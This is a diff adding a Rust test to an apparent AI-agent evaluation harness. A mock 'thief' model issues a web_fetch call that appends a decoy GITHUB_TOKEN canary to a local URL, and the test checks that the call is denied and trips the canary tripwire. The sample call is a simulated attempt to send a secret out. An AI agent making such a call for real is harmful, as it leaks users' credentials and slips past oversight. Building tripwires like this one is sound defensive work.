@@ -511,3 +511,48 @@ fn a_canary_in_a_tunnels_host_name_is_caught_whatever_its_case() {
     );
     assert_ne!(t["connections"][0]["rule"], "canary");
 }
+
+/// A call the gate denies that carries a decoy was an attempt to move it:
+/// the task trips on the canary, though nothing left.
+#[test]
+fn a_denied_call_carrying_a_canary_trips_the_task() {
+    let listener = Listener::start();
+    let p = listener.port;
+    let model = thief(move |token| {
+        (
+            "web_fetch".into(),
+            json!({"url": format!("http://127.0.0.1:{p}/?t={token}")}),
+        )
+    });
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    write(d, "ws/a.txt", "a\n");
+    write(
+        d,
+        "t.yaml",
+        &format!(
+            "name: t\nprompt: p\nmodel: {}\nworkspace: ws\ntools: [bash, web_fetch]\npolicy:\n  default: allow\n  rules:\n    - deny: [\"Fetch(127.0.0.1)\"]\nmodel_options: {{stream: false}}\n",
+            Vendor::OpenAi.model()
+        ),
+    );
+    let o = runner_for(Vendor::OpenAi, &model.url(), "sk-test")
+        .current_dir(d)
+        .args(["run", "-q", "--out", "out", "t.yaml"])
+        .output()
+        .unwrap();
+    let t = read_json(d.join("out/t/transcript.json"));
+    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
+    assert_eq!(
+        t["tool_calls"][1]["status"], "denied",
+        "{}",
+        t["tool_calls"][1]
+    );
+    assert_eq!(t["outcome"]["tripwire"], "canary", "{}", t["outcome"]);
+    let reason = t["outcome"]["reason"].as_str().unwrap();
+    assert!(
+        reason.contains("GITHUB_TOKEN") && reason.contains("the denied call"),
+        "{reason}"
+    );
+    assert_eq!(listener.received(), 0);
+    assert_eq!(model.requests().len(), 2, "asked again");
+}
